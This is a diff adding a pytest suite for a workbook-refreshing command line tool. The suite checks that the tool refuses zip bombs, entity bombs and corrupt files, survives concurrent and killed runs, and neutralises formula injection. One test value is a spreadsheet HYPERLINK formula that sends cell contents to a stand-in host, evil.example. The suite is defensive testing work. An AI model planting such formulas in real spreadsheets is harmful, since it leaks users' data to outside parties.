@@ -1,0 +1,572 @@
+"""The ``funnel`` command line against hostile files, concurrent runs, kills and formula text.
+
+Hostile and broken files go through the real console entry (``funnel_cli.main.main``)
+in child processes limited to 2 GiB of address space (``RLIMIT_AS``). To keep the suite
+fast, one harness process imports the CLI once and forks a child per command (the
+child redirects its stdout and stderr to files, sets ``sys.argv`` and calls ``main()``
+exactly as the ``funnel`` script does); the harness times each child and can SIGKILL it
+after a delay or when a named hook is reached. A few runs also go through the installed
+``funnel`` script itself, so the script's exit code is checked end to end.
+
+Each refusal must be: non-zero exit, within 10 s, one line on stderr naming the file
+and the problem, no traceback, nothing on stdout, the file byte-identical, no lock or
+temporary file left next to it.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import os
+import re
+import resource
+import shutil
+import subprocess
+import sys
+import textwrap
+import time
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+from python_calamine import CalamineWorkbook
+from typer.testing import CliRunner
+
+from funnel.csvsource import write_csv_folder
+from funnel.demo import demo_tables
+from funnel_cli.main import app
+from tests.support import hostile
+from udfs.macros import refresh
+from workbook.build import new_workbook
+from workbook.filebook import FileBook
+from workbook.layout import OUTPUTS
+from workbook.table_reader import read_tables
+from workbook.table_writer import lock_path
+from workbook.xlsx_package import open_package
+
+REPO = Path(__file__).resolve().parents[2]
+MEMORY_LIMIT = 2 << 30  # RLIMIT_AS of every child: 2 GiB of address space
+TIME_LIMIT = 10.0  # seconds for any refusal
+
+
+# ---- the fork harness ----------------------------------------------------------------------------------
+_HARNESS = textwrap.dedent(
+    r'''
+    import json, os, resource, signal, sys, time, traceback
+
+    limit = int(sys.argv[3])
+    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
+    from funnel_cli import main as cli
+    # Warm what the commands import lazily, so each child starts at the command itself.
+    import funnel.engine, udfs.macros, workbook.filebook, workbook.mapping, workbook.table_reader, workbook.table_writer
+
+    def pause(flag):
+        open(flag, "w").close()
+        time.sleep(120)
+
+    def install(hook, flag):
+        # Stop the refresh at a named point, so a SIGKILL lands exactly there.
+        from workbook import table_reader, table_writer, xlsx_package
+        if hook == "reading":
+            table_reader._read_one = lambda *a: pause(flag)
+        elif hook == "computing":
+            udfs.macros.run = lambda *a, **k: pause(flag)
+        elif hook == "locked":
+            table_writer._remove_stale_temp_files = lambda dst: pause(flag)
+        elif hook == "writing":
+            copy_entry, done = xlsx_package.PackageAssembler.copy_entry, []
+            def halfway(self, pkg, member):
+                done.append(member.name)
+                if len(done) == len(pkg.members) // 2:
+                    self._out.flush()
+                    pause(flag)
+                copy_entry(self, pkg, member)
+            xlsx_package.PackageAssembler.copy_entry = halfway
+        elif hook == "replacing":
+            table_writer._before_replace = lambda tmp, dst: pause(flag)
+        elif hook == "replaced":
+            table_writer._fsync_dir = lambda folder: pause(flag)
+        else:
+            raise ValueError(hook)
+
+    def child(job):
+        for fd, name in ((1, job["out"]), (2, job["err"])):
+            os.dup2(os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644), fd)
+        code = 99
+        try:
+            if job.get("hook"):
+                install(job["hook"], job["flag"])
+            sys.argv = ["funnel", *job["args"]]
+            cli.main()
+            code = 0
+        except SystemExit as done:
+            code = done.code if isinstance(done.code, int) else (0 if done.code is None else 1)
+        except BaseException:
+            traceback.print_exc()
+        finally:
+            sys.stdout.flush()
+            sys.stderr.flush()
+            os._exit(code)
+
+    results = []
+    for job in json.load(open(sys.argv[1])):
+        if job.get("flag") and os.path.exists(job["flag"]):
+            os.unlink(job["flag"])
+        start = time.monotonic()
+        pid = os.fork()
+        if pid == 0:
+            child(job)
+        killed = timed_out = False
+        while True:
+            got, status, usage = os.wait4(pid, os.WNOHANG)
+            if got:
+                break
+            elapsed = time.monotonic() - start
+            at_hook = job.get("flag") and os.path.exists(job["flag"])
+            late = job.get("kill_after") is not None and elapsed >= job["kill_after"]
+            if at_hook or late or elapsed > job.get("timeout", 60):
+                timed_out = not (at_hook or late)
+                os.kill(pid, signal.SIGKILL)
+                killed = True
+                got, status, usage = os.wait4(pid, 0)
+                break
+            time.sleep(0.001)
+        results.append({
+            "code": os.waitstatus_to_exitcode(status), "wall": time.monotonic() - start, "killed": killed,
+            "timed_out": timed_out, "maxrss_kib": usage.ru_maxrss,
+            "stdout": open(job["out"], encoding="utf-8", errors="replace").read(),
+            "stderr": open(job["err"], encoding="utf-8", errors="replace").read(),
+        })
+        if job.get("snapshot"):  # the workbook as the child left it, before the next job runs
+            src, dst = job["snapshot"]
+            with open(src, "rb") as f, open(dst, "wb") as out:
+                out.write(f.read())
+            folder = os.path.dirname(src)
+            results[-1]["left"] = sorted(n for n in os.listdir(folder) if n.startswith("~$"))
+    json.dump(results, open(sys.argv[2], "w"))
+    '''
+)
+
+
+def run_in_harness(jobs: list[dict], workdir: Path) -> list[dict]:
+    """Run ``funnel`` commands, one forked child each, under the 2 GiB limit; their results.
+
+    A job is ``{"args": [...]}`` plus optionally ``"kill_after": seconds`` or
+    ``"hook": name`` (the child is killed when it reaches the hook), and ``"snapshot":
+    [workbook, copy]`` to copy the workbook as the child left it. Temporary folders of the
+    children go to ``workdir/tmp``.
+    """
+    workdir.mkdir(parents=True, exist_ok=True)
+    for i, job in enumerate(jobs):
+        job.setdefault("out", str(workdir / f"job{i}.out"))
+        job.setdefault("err", str(workdir / f"job{i}.err"))
+        if job.get("hook"):
+            job.setdefault("flag", str(workdir / f"job{i}.at-hook"))
+    spec, results = workdir / "jobs.json", workdir / "results.json"
+    spec.write_text(json.dumps(jobs))
+    (workdir / "tmp").mkdir(exist_ok=True)
+    env = dict(os.environ, PYTHONPATH=str(REPO), OPENBLAS_NUM_THREADS="1", OMP_NUM_THREADS="1", COLUMNS="100",
+               TMPDIR=str(workdir / "tmp"))
+    env.pop("FUNNEL_DEBUG", None)
+    subprocess.run([sys.executable, "-c", _HARNESS, str(spec), str(results), str(MEMORY_LIMIT)],
+                   env=env, cwd=workdir, check=True, timeout=600)
+    return json.loads(results.read_text())
+
+
+def _limit_memory() -> None:
+    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
+
+
+def run_funnel_script(*args: str, cwd: Path) -> subprocess.CompletedProcess:
+    """The installed ``funnel`` console script, under the 2 GiB limit."""
+    script = shutil.which("funnel") or pytest.skip("the funnel console script is not installed")
+    env = dict(os.environ, PYTHONPATH=str(REPO), COLUMNS="100")
+    env.pop("FUNNEL_DEBUG", None)
+    return subprocess.run([script, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120,
+                          preexec_fn=_limit_memory)
+
+
+def _sha256(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def _leftovers(folder: Path) -> list[str]:
+    # Lock and temporary files of a refresh: "~$<name>.funnel-lock", "~$<name>.*.funnel-tmp".
+    return sorted(p.name for p in folder.iterdir() if p.name.startswith("~$"))
+
+
+# ---- hostile and broken files ------------------------------------------------------------------------
+@pytest.fixture(scope="module")
+def demo_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A 60-deal demo workbook, refreshed: the source every hostile file is made from."""
+    path = new_workbook(tmp_path_factory.mktemp("demo") / "demo.xlsm", "en", demo_tables(size=60, seed=3))
+    refresh(FileBook(path))
+    return path
+
+
+def _hostile_files(src: Path, folder: Path) -> dict[str, tuple[Path, str]]:
+    # file name -> (path, what the one-line refusal must say)
+    folder.mkdir()
+    opportunities = hostile.sheet_part(src, "Opportunities")
+    cases = {
+        "zip_bomb.xlsm": (hostile.zip_bomb(src, folder / "zip_bomb.xlsm"), "zip bomb"),
+        "lying_zip_bomb.xlsm": (hostile.lying_zip_bomb(src, folder / "lying_zip_bomb.xlsm"), "zip bomb"),
+        "laughs_in_strings.xlsm": (hostile.entity_bomb(src, folder / "laughs_in_strings.xlsm"),
+                                   "DTD/entity declarations are not allowed"),
+        "laughs_in_sheet.xlsm": (hostile.entity_bomb(src, folder / "laughs_in_sheet.xlsm", part=opportunities, bom=True),
+                                 "DTD/entity declarations are not allowed"),
+        "huge_dimension.xlsm": (hostile.huge_sheet(src, folder / "huge_dimension.xlsm"),
+                                "declares a used range A1:XFD1048576 of 17,179,869,184 cells"),
+        "corner_cells.xlsm": (hostile.huge_sheet(src, folder / "corner_cells.xlsm", corners_only=True),
+                              "cells span 1,048,576 rows x 16,384 columns"),
+        "truncated.xlsm": (hostile.truncated(src, folder / "truncated.xlsm"), "truncated"),
+        "cut_short.xlsm": (hostile.truncated(src, folder / "cut_short.xlsm", keep=0.999), "truncated"),
+        "password_ole.xlsm": (hostile.encrypted_ole(folder / "password_ole.xlsm"), "password-protected"),
+        "picture.xlsm": (hostile.png_file(folder / "picture.xlsm"), "not a zip file"),
+        "export.xlsm": (hostile.csv_file(folder / "export.xlsm"), "not a zip file"),
+        "empty.xlsm": (hostile.empty_file(folder / "empty.xlsm"), "not a zip file (too short)"),
+    }
+    if hostile.encrypted_by_msoffcrypto(src, folder / "password.xlsm") is not None:
+        cases["password.xlsm"] = (folder / "password.xlsm", "password-protected")
+    return cases
+
+
+@pytest.fixture(scope="module")
+def hostile_runs(tmp_path_factory: pytest.TempPathFactory, demo_book: Path):
+    """Every hostile file through ``funnel refresh`` and ``funnel report``, plus controls."""
+    root = tmp_path_factory.mktemp("hostile")
+    cases = _hostile_files(demo_book, root / "files")
+    # The far corner cell on an output sheet: report reads only inputs, refresh must refuse.
+    out_corner = hostile.huge_sheet(demo_book, root / "files" / "corner_on_output.xlsm", sheet="Stages", corners_only=True)
+    control = root / "files" / "valid.xlsm"
+    shutil.copy(demo_book, control)
+    hashes = {name: _sha256(path) for name, (path, _) in cases.items()}
+    hashes.update({out_corner.name: _sha256(out_corner), control.name: _sha256(control)})
+    jobs = []
+    for name, (path, _) in {**cases, out_corner.name: (out_corner, ""), control.name: (control, "")}.items():
+        jobs.append({"args": ["refresh", str(path)], "case": name, "command": "refresh"})
+        jobs.append({"args": ["report", str(path), "--format", "json"], "case": name, "command": "report"})
+    results = run_in_harness(jobs, root / "runs")
+    runs = {(job["case"], job["command"]): result for job, result in zip(jobs, results)}
+    return cases, runs, hashes, root / "files"
+
+
+def _hostile_ids() -> list[str]:
+    return ["zip_bomb.xlsm", "lying_zip_bomb.xlsm", "laughs_in_strings.xlsm", "laughs_in_sheet.xlsm",
+            "huge_dimension.xlsm", "corner_cells.xlsm", "truncated.xlsm", "cut_short.xlsm", "password.xlsm",
+            "password_ole.xlsm", "picture.xlsm", "export.xlsm", "empty.xlsm"]
+
+
+def _assert_refused(run: dict, name: str, problem: str) -> None:
+    assert not run["timed_out"] and not run["killed"]
+    assert run["code"] == 2, f"exit code {run['code']}; stderr: {run['stderr']!r}"
+    assert run["wall"] < TIME_LIMIT, f"refusal took {run['wall']:.1f} s"
+    assert run["stdout"] == ""
+    lines = run["stderr"].strip().splitlines()
+    assert len(lines) == 1, f"not one line: {run['stderr']!r}"
+    assert "Traceback" not in run["stderr"]
+    assert lines[0].startswith("funnel: ") and name in lines[0] and problem in lines[0], lines[0]
+
+
+@pytest.mark.parametrize("name", _hostile_ids())
+@pytest.mark.parametrize("command", ["refresh", "report"])
+def test_hostile_file_is_refused_in_one_line(hostile_runs, name: str, command: str) -> None:
+    cases, runs, hashes, folder = hostile_runs
+    if name not in cases:
+        pytest.skip("msoffcrypto-tool is not installed: no agile-encrypted file to try")
+    path, problem = cases[name]
+    run = runs[(name, command)]
+    _assert_refused(run, name, problem)
+    # Bounded memory: the 2 GiB limit held (no MemoryError, no abort) and the peak stayed small.
+    assert run["maxrss_kib"] < 1 << 20, f"peak RSS {run['maxrss_kib'] / 1024:.0f} MiB"
+    assert _sha256(path) == hashes[name], "the refused file was changed"
+    assert _leftovers(folder) == []
+
+
+def test_report_reads_only_inputs_but_refresh_refuses_a_huge_output_sheet(hostile_runs) -> None:
+    cases, runs, hashes, folder = hostile_runs
+    name = "corner_on_output.xlsm"
+    _assert_refused(runs[(name, "refresh")], name, "cells span 1,048,576 rows x 16,384 columns")
+    report = runs[(name, "report")]
+    assert report["code"] == 0 and report["stderr"] == ""
+    assert json.loads(report["stdout"])["summary"][1] == {"metric": "open_deals", "value": 8}
+    assert _sha256(folder / name) == hashes[name]
+
+
+def test_a_valid_workbook_refreshes_under_the_same_limits(hostile_runs) -> None:
+    # The control: the 2 GiB limit and the harness do not refuse everything.
+    cases, runs, hashes, folder = hostile_runs
+    refreshed, report = runs[("valid.xlsm", "refresh")], runs[("valid.xlsm", "report")]
+    assert refreshed["code"] == 0, refreshed["stderr"]
+    assert refreshed["stdout"].startswith(f"Refreshed {len(OUTPUTS)} output tables from 60 deals.")
+    assert report["code"] == 0 and json.loads(report["stdout"])["summary"][0]["metric"] == "as_of"
+
+
+def test_the_funnel_script_exits_non_zero_on_a_refused_file(hostile_runs, tmp_path: Path) -> None:
+    # Through the installed console script: the exit code reaches the shell.
+    cases, runs, hashes, folder = hostile_runs
+    path, problem = cases["truncated.xlsm"]
+    started = time.monotonic()
+    done = run_funnel_script("refresh", str(path), cwd=tmp_path)
+    assert time.monotonic() - started < TIME_LIMIT + 5  # start-up included
+    assert done.returncode == 2, done.stderr
+    assert done.stderr.strip() == f"funnel: truncated.xlsm is not a zip file, or is truncated (no end of central directory)"
+    assert done.stdout == "" and _sha256(path) == hashes["truncated.xlsm"]
+
+
+def test_missing_file_and_bad_option_exit_non_zero(tmp_path: Path) -> None:
+    runner = CliRunner()
+    missing = runner.invoke(app, ["refresh", str(tmp_path / "nope.xlsm")])
+    assert missing.exit_code == 2 and "no such workbook" in missing.output
+    bad = runner.invoke(app, ["report", str(tmp_path), "--format", "xml"])
+    assert bad.exit_code == 2 and "--format takes json or table, got 'xml'" in bad.output
+
+
+# ---- concurrent refreshes -------------------------------------------------------------------------------
+def _reference_outputs(book: Path, folder: Path) -> dict[str, pd.DataFrame]:
+    # What a clean refresh of this workbook writes, read back (refreshing is deterministic).
+    folder.mkdir(parents=True, exist_ok=True)
+    ref = folder / "reference.xlsm"
+    shutil.copy(book, ref)
+    refresh(FileBook(ref))
+    return read_tables(ref, list(OUTPUTS))
+
+
+def _assert_valid_and_refreshed(path: Path, reference: dict[str, pd.DataFrame], *, openpyxl_too: bool = True) -> None:
+    # A complete workbook: every output table equals the reference, calamine and openpyxl open it.
+    outputs = read_tables(path, list(OUTPUTS))
+    for name, frame in reference.items():
+        pd.testing.assert_frame_equal(outputs[name], frame, obj=name)
+    with CalamineWorkbook.from_path(str(path), load_tables=True) as wb:
+        assert "Opportunities" in wb.sheet_names
+    if openpyxl_too:
+        assert "tblOpportunities" in openpyxl.load_workbook(path)["Opportunities"].tables
+
+
+_PAUSED_REFRESH = textwrap.dedent(
+    """
+    import sys, time
+    from pathlib import Path
+    from workbook import table_writer
+    from funnel_cli import main as cli
+
+    book, holding, release = sys.argv[1:4]
+
+    def hold(tmp, dst):  # the new file is written and fsynced; hold the lock until released
+        Path(holding).write_text("holding")
+        deadline = time.monotonic() + 60
+        while not Path(release).exists() and time.monotonic() < deadline:
+            time.sleep(0.01)
+
+    table_writer._before_replace = hold
+    sys.argv = ["funnel", "refresh", book]
+    cli.main()
+    """
+)
+
+
+def test_a_second_refresh_while_the_first_is_saving_is_refused_as_busy(demo_book: Path, tmp_path: Path) -> None:
+    book = tmp_path / "book.xlsm"
+    shutil.copy(demo_book, book)
+    reference = _reference_outputs(book, tmp_path / "ref")
+    holding, release = tmp_path / "holding", tmp_path / "release"
+    env = dict(os.environ, PYTHONPATH=str(REPO), COLUMNS="100")
+    first = subprocess.Popen([sys.executable, "-c", _PAUSED_REFRESH, str(book), str(holding), str(release)],
+                             env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        deadline = time.monotonic() + 60
+        while not holding.exists():
+            assert first.poll() is None, first.communicate()
+            assert time.monotonic() < deadline, "the first refresh never reached its save"
+            time.sleep(0.02)
+        second = run_funnel_script("refresh", str(book), cwd=tmp_path)
+        assert second.returncode == 2 and second.stdout == ""
+        assert second.stderr.strip() == (
+            f"funnel: book.xlsm is being refreshed by process {first.pid} (lock file {lock_path(book)}); "
+            "wait for it to finish"
+        )
+        release.write_text("go")
+        out, err = first.communicate(timeout=60)
+    finally:
+        if first.poll() is None:
+            first.kill()
+    assert first.returncode == 0, err
+    assert out.startswith(f"Refreshed {len(OUTPUTS)} output tables from 60 deals.")
+    _assert_valid_and_refreshed(book, reference)
+    assert _leftovers(tmp_path) == []
+
+
+def test_two_refreshes_started_together_leave_one_valid_workbook(demo_book: Path, tmp_path: Path) -> None:
+    book = tmp_path / "book.xlsm"
+    shutil.copy(demo_book, book)
+    reference = _reference_outputs(book, tmp_path / "ref")
+    script = shutil.which("funnel") or pytest.skip("the funnel console script is not installed")
+    env = dict(os.environ, PYTHONPATH=str(REPO), COLUMNS="100")
+    runs = [subprocess.Popen([script, "refresh", str(book)], cwd=tmp_path, env=env, text=True,
+                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=_limit_memory) for _ in range(2)]
+    results = [(p.wait(timeout=120), *p.communicate()) for p in runs]
+    for code, out, err in results:
+        # Each either saved, or was told the workbook is busy (never a traceback, never half a file).
+        assert (code == 0 and err == "") or (code == 2 and "is being refreshed by process" in err), (code, err)
+    assert any(code == 0 for code, _, _ in results)
+    _assert_valid_and_refreshed(book, reference)
+    assert _leftovers(tmp_path) == []
+
+
+# ---- killed at any moment ---------------------------------------------------------------------------------
+KILL_DEALS = 2000  # big enough that reading, computing and saving each take a visible slice of a second
+
+
+@pytest.fixture(scope="module")
+def kill_book(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, pd.DataFrame]]:
+    """A 2,000-deal demo workbook (inputs only) and what a clean refresh of it writes."""
+    root = tmp_path_factory.mktemp("kill")
+    book = new_workbook(root / "book.xlsm", "en", demo_tables(size=KILL_DEALS, seed=5))
+    return book, _reference_outputs(book, root / "ref")
+
+
+def _kill_chain(book: Path, jobs: list[dict], workdir: Path) -> list[tuple[dict, dict, bytes]]:
+    # Run the jobs back to back on ``book``; (job, result, the workbook's bytes after it).
+    snapshots = workdir / "snapshots"
+    snapshots.mkdir(parents=True)
+    for i, job in enumerate(jobs):
+        job["snapshot"] = [str(book), str(snapshots / f"{i}.xlsm")]
+    results = run_in_harness(jobs, workdir / "runs")
+    return [(job, result, (snapshots / f"{i}.xlsm").read_bytes()) for i, (job, result) in enumerate(zip(jobs, results))]
+
+
+def test_a_refresh_killed_at_each_step_leaves_the_original_until_the_replace(kill_book, tmp_path: Path) -> None:
+    """SIGKILL a refresh at each named step, one after another on the same file. Until the
+    new file replaces the old one, the workbook is byte-identical to before; after, it is the
+    refreshed workbook. Each kill's lock and temporary file are taken over and cleaned by
+    the next refresh, and nothing is left once a refresh completes."""
+    src, reference = kill_book
+    book = Path(shutil.copy(src, tmp_path / "book.xlsm"))
+    original = book.read_bytes()
+    lock, temp = f"~$book.xlsm.funnel-lock", "~$book.xlsm.*.funnel-tmp"
+    steps = [  # hook, the workbook after the kill, what the kill leaves next to it
+        ("reading", "original", []),
+        ("computing", "original", []),
+        ("locked", "original", [lock]),
+        ("writing", "original", [lock, temp]),  # half the new file written
+        ("replacing", "original", [lock, temp]),  # new file complete and fsynced, not yet in place
+        ("replaced", "refreshed", [lock]),  # in place; the lock not yet released
+    ]
+    jobs = [{"args": ["refresh", str(book)], "hook": hook} for hook, _, _ in steps] + [{"args": ["refresh", str(book)]}]
+    runs = _kill_chain(book, jobs, tmp_path / "chain")
+    for (hook, state, left), (job, result, after) in zip(steps, runs):
+        assert result["killed"] and not result["timed_out"], f"{hook}: the hook was never reached: {result}"
+        assert sorted(n if n == lock else temp for n in result["left"]) == sorted(left), f"{hook}: left {result['left']}"
+        if state == "original":
+            assert after == original, f"killed while {hook}: the workbook changed"
+        else:
+            assert after != original
+            _assert_valid_and_refreshed(tmp_path / "chain" / "snapshots" / "5.xlsm", reference, openpyxl_too=False)
+    last = runs[-1][1]
+    assert last["code"] == 0 and last["left"] == [], last
+    _assert_valid_and_refreshed(book, reference)
+
+
+def test_a_refresh_killed_at_timed_moments_leaves_a_whole_workbook(kill_book, tmp_path: Path) -> None:
+    """SIGKILL refreshes at fixed delays and at fractions of a full refresh's time: after
+    every kill the workbook is byte-identical to before or a complete refreshed workbook."""
+    src, reference = kill_book
+    timing = run_in_harness([{"args": ["refresh", str(_copy(src, tmp_path / "timing"))]}], tmp_path / "timing-run")[0]
+    assert timing["code"] == 0, timing["stderr"]
+    full = timing["wall"]
+    book = Path(shutil.copy(src, tmp_path / "book.xlsm"))
+    original = book.read_bytes()
+    delays = [0.05, 0.1, 0.2, 0.4, 0.7 * full, 0.9 * full, 0.97 * full]
+    jobs = [{"args": ["refresh", str(book)], "kill_after": d} for d in delays] + [{"args": ["refresh", str(book)]}]
+    runs = _kill_chain(book, jobs, tmp_path / "chain")
+    for i, (job, result, after) in enumerate(runs[:-1]):
+        if after != original:
+            _assert_valid_and_refreshed(tmp_path / "chain" / "snapshots" / f"{i}.xlsm", reference, openpyxl_too=False)
+    last = runs[-1][1]
+    assert last["code"] == 0 and last["left"] == [], last
+    _assert_valid_and_refreshed(book, reference)
+
+
+def _copy(src: Path, folder: Path) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    return Path(shutil.copy(src, folder / src.name))
+
+
+# ---- text that looks like a formula ---------------------------------------------------------------------
+INJECTED = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Open the quote")',
+    "account": "+1-555-0100",
+    "owner": "@team",
+    "next_step": "-2+3",
+}
+
+
+@pytest.fixture(scope="module")
+def injected_book(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
+    """The demo with formula-looking text typed into open deals (and their owner's closed ones)."""
+    tables = demo_tables(size=60, seed=3)
+    opps = tables["opportunities"].copy()
+    open_rows = opps.index[opps["stage"].isin(["P", "I", "B"])]
+    victim = open_rows[0]
+    for column, text in INJECTED.items():
+        opps.loc[victim, column] = text
+    opps.loc[opps["owner"] == opps.loc[open_rows[1], "owner"], "owner"] = INJECTED["owner"]  # open and closed deals
+    ids = [opps.loc[victim, "id"]]
+    path = new_workbook(tmp_path_factory.mktemp("injection") / "book.xlsm", "en", {**tables, "opportunities": opps})
+    return path, ids
+
+
+def test_formula_text_is_written_as_text_in_the_refreshed_workbook(injected_book) -> None:
+    path, _ = injected_book
+    result = CliRunner().invoke(app, ["refresh", str(path)])
+    assert result.exit_code == 0, result.output
+    files = hostile.members(path)
+    with open_package(path) as pkg:
+        output_sheets = {pkg.table(name).sheet_part: pkg.table(name).sheet for name in OUTPUTS}
+    found: dict[str, list[tuple[str, str]]] = {}
+    for part, sheet in output_sheets.items():
+        xml = files[part]
+        assert b"<f>" not in xml and b"<f " not in xml, f"{sheet} holds a formula"
+        for text in (INJECTED["name"], INJECTED["account"], INJECTED["owner"]):
+            escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()
+            for ref, attrs in re.findall(rb'<c r="([A-Z]+[0-9]+)"([^>]*)><is><t[^>]*>' + re.escape(escaped) + rb"</t></is></c>", xml):
+                assert attrs.endswith(b' t="inlineStr"'), (sheet, ref, attrs)
+                found.setdefault(text, []).append((sheet, ref.decode()))
+    # Each text reached the output sheets (deal scores, forecast by owner, accounts...).
+    assert set(found) == {INJECTED["name"], INJECTED["account"], INJECTED["owner"]}, found
+    wb = openpyxl.load_workbook(path)
+    for text, places in found.items():
+        for sheet, ref in places:
+            cell = wb[sheet][ref]
+            assert (cell.data_type, cell.value) == ("s", text), (sheet, ref)
+
+
+def test_formula_text_is_carried_verbatim_by_report_json(injected_book) -> None:
+    path, ids = injected_book
+    result = CliRunner().invoke(app, ["report", str(path), "--format", "json"])
+    assert result.exit_code == 0, result.output
+    payload = json.loads(result.stdout)
+    deal = next(r for r in payload["deal_scores"] if r["id"] == ids[0])
+    assert (deal["name"], deal["account"], deal["owner"]) == (INJECTED["name"], INJECTED["account"], INJECTED["owner"])
+    assert any(r["owner"] == INJECTED["owner"] for r in payload["forecast"])
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "funnel/csvsource.write_csv_folder prefixes only object columns; pandas 3 keeps text in 'str' "
+    "columns (forecast.owner, accounts.account), written bare. Fix: prefix when the dtype is object "
+    "or pd.StringDtype."))
+def test_formula_text_in_csv_output_is_prefixed_everywhere(injected_book, tmp_path: Path) -> None:
+    from funnel.engine import run
+    from workbook.mapping import read_inputs
+
+    path, _ = injected_book
+    report = run(*read_inputs(FileBook(path)))
+    written = write_csv_folder(report.tables, tmp_path / "csv")
+    cells = {p.name: [f for row in csv.reader(p.read_text(encoding="utf-8").splitlines()) for f in row] for p in written}
+    everywhere = [f for fields in cells.values() for f in fields]
+    for text in (INJECTED["name"], INJECTED["account"], INJECTED["owner"]):
+        assert "'" + text in everywhere, text
+        bare = sorted(name for name, fields in cells.items() if text in fields)
+        assert not bare, f"{text!r} written bare in {bare}: a spreadsheet would run it"
